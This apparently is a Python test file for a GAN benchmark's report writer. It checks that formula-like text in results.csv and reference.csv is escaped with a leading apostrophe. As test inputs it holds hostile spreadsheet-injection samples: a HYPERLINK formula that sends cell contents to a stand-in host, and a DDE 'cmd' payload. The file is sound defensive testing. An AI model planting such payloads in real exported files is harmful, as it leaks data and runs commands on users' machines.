"""results.csv and reference.csv are opened in spreadsheets: a text cell from a stranger's study (a metric name
in its store, a reference's source in its spec) that starts like a formula is written as text, with a leading
apostrophe; numbers, negative ones included, are written as they are."""

import csv

from ganbench.report.html import _write_tables
from ganbench.report.reference_table import attach_reference
from ganbench.study.spec import StudySpec

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _read(path):
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def test_results_csv_writes_formula_like_text_as_text(tmp_path):
    row = {"dataset": "ring8", "metric": HOSTILE, "checkpoint": "final", "variant": "@SUM(A1)", "rank": None,
           "n": 2, "mean": -0.5, "std": 0.25, "ci_low": -2.75, "ci_high": 1.75}
    _write_tables(tmp_path, StudySpec(seeds=2), {"leaderboard": [row], "pairs": []}, [], [], [], [], {})
    (got,) = _read(tmp_path / "results.csv")
    assert got["metric"] == "'" + HOSTILE and got["variant"] == "'@SUM(A1)" and got["dataset"] == "ring8"
    assert (got["mean"], got["ci_low"], got["ci_high"], got["rank"]) == ("-0.5", "-2.75", "1.75", "")


def test_reference_csv_writes_a_formula_like_source_as_text(tmp_path):
    spec = StudySpec(seeds=2, reference={"source": "-2+3+cmd|' /C calc'!A0",
                                         "values": {"ring8": {"ns": {"high_quality": [-0.5, 0.1]}}}})
    board = [{"dataset": "ring8", "metric": "high_quality", "checkpoint": "final", "variant": "ns", "n": 2,
              "mean": 0.4, "std": 0.1, "ci_low": 0.3, "ci_high": 0.5}]
    attach_reference(spec, board, [{"name": "ring8"}], tmp_path, [])
    (got,) = _read(tmp_path / "reference.csv")
    assert got["source"] == "'-2+3+cmd|' /C calc'!A0"
    assert (got["published_mean"], got["ours_mean"], got["variant"]) == ("-0.5", "0.4", "ns")
